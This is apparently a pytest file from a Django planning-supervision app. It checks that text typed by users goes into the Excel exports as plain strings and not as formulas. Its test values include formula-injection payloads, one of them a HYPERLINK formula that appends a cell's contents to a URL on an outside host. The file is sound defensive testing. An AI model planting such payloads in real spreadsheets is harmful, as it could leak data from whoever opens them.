"""What units type goes into the Excel files as text, never as a formula: a report saying
"=HYPERLINK(…)" must not become a link that sends the sheet's contents away when a leader
clicks it, nor "=2+2" a calculation, nor "+1", "-1" or "@SUM(A1)" anything but those characters."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core import dates
from supervision.ledger.services import accept_report
from supervision.models import ProgressReport
from tests.factories import (
    FundingLineFactory,
    ItemFactory,
    PlanFactory,
    ProgressReportFactory,
    SubItemFactory,
    UnitFactory,
    office_user,
)

pytestmark = pytest.mark.django_db

TYPED = [
    "=2+2",
    '=HYPERLINK("http://x?leak="&A3,"点击查看")',
    "+1",
    "-1",
    "@SUM(A1)",
]


def lagging_plan(text: str):
    """One item whose only sub-item is far behind its pace (red), with the text typed into
    the sub-item's registry fields and into its accepted report's three text fields."""
    today = dates.today()
    plan = PlanFactory(title="公式测试清单")
    unit = UnitFactory(name="测试区水利局", short_name="区水利局", code="water-f")
    item = ItemFactory(plan=plan, number=1, title=text, lead_unit=unit, responsible_leader=text)
    sub = SubItemFactory(
        item=item,
        number=1,
        content=text,
        location=text,
        first_responsible_person=text,
        target_value=Decimal("120"),
        target_unit="个",
        responsible_unit=unit,
        planned_start=today - dt.timedelta(days=200),
        planned_end=today + dt.timedelta(days=10),
    )
    FundingLineFactory(sub_item=sub, planned=Decimal("100"))
    report = ProgressReportFactory(
        sub_item=sub,
        period_start=today.replace(day=1),
        progress_percent=Decimal("5"),
        actual_value=Decimal("6"),
        work_done=text,
        problems=text,
        next_steps=text,
        state=ProgressReport.State.SUBMITTED,
        submitted_at=timezone.now(),
    )
    accept_report(report, office_user(username="reviewer-f"), on=today)
    return plan


def sheet_rows(content: bytes, sheet: str | None = None):
    wb = load_workbook(BytesIO(content))
    formulas = [
        c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    ws = wb[sheet] if sheet else wb.worksheets[0]
    header = [c.value for c in ws[3]]
    return {name: cell for name, cell in zip(header, ws[4], strict=True)}


def text_cells(content: bytes, sheet: str | None = None):
    """The report texts printed in a row of their own after the label 情况说明: each text's
    name -> what follows it on its line, with the cell holding them (a string cell)."""
    wb = load_workbook(BytesIO(content))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    found = {}
    for row in ws.iter_rows(min_row=4):
        for label, cell in zip(row, row[1:], strict=False):
            if label.value == "情况说明":
                assert cell.data_type == "s"
                for line in cell.value.split("\n"):
                    name, _, text = line.partition("：")
                    found[name] = text
    return found


def assert_text(cell, text: str) -> None:
    assert (cell.data_type, cell.value) == ("s", text)


def assert_number(cell, value) -> None:
    assert cell.data_type == "n" and cell.value == pytest.approx(value)


@pytest.mark.parametrize("text", TYPED)
def test_report_text_is_text_in_the_briefing(client, login, text):
    plan = lagging_plan(text)
    login(office_user())
    content = client.get(reverse("plan_briefing_xlsx", args=[plan.pk])).content

    detail = sheet_rows(content, "进展明细")
    for header in ("项目名称", "目标任务", "责任领导"):
        assert_text(detail[header], text)
    texts = text_cells(content, "进展明细")
    assert texts == {"进展情况": text, "存在问题": text, "下步计划": text}
    assert_number(detail["目标值"], 120)
    assert_number(detail["完成值"], 6)
    assert_number(detail["进度"], 0.05)
    assert_number(detail["完成率"], 0.05)

    lagging = sheet_rows(content, "滞后项目")
    for header in ("项目名称", "目标任务"):
        assert_text(lagging[header], text)
    assert text_cells(content, "滞后项目") == {"存在问题（滞后原因）": text, "下步计划": text}
    assert_number(lagging["进度"], 0.05)
    assert lagging["滞后（百分点）"].data_type == "n" and lagging["滞后（百分点）"].value > 30

    funding = sheet_rows(content, "资金情况")
    assert_text(funding["项目名称"], text)
    assert_number(funding["计划投资（万元）"], 100)


@pytest.mark.parametrize("text", TYPED)
def test_report_text_is_text_in_the_lagging_export(client, login, text):
    plan = lagging_plan(text)
    login(office_user())
    content = client.get(reverse("plan_lagging_xlsx", args=[plan.pk])).content
    row = sheet_rows(content)
    for header in ("项目名称", "目标任务"):
        assert_text(row[header], text)
    assert text_cells(content) == {"存在问题（滞后原因）": text, "下步计划": text}
    assert_number(row["进度"], 0.05)


@pytest.mark.parametrize("text", TYPED)
def test_registry_text_is_text_in_the_plan_table_export(client, login, text):
    """The plan table carries no report text; what units and the office typed into the
    registry (目标任务, 地点, 第一责任人 …) goes in as text the same way."""
    plan = lagging_plan(text)
    login(office_user())
    row = sheet_rows(client.get(reverse("plan_export_xlsx", args=[plan.pk])).content)
    for header in ("项目名称", "目标任务", "责任领导", "第一责任人", "地点"):
        assert_text(row[header], text)
    assert_number(row["序号"], 1)
    assert_number(row["目标值"], 120)
    assert_number(row["完成值"], 6)
    assert_number(row["进度"], 0.05)
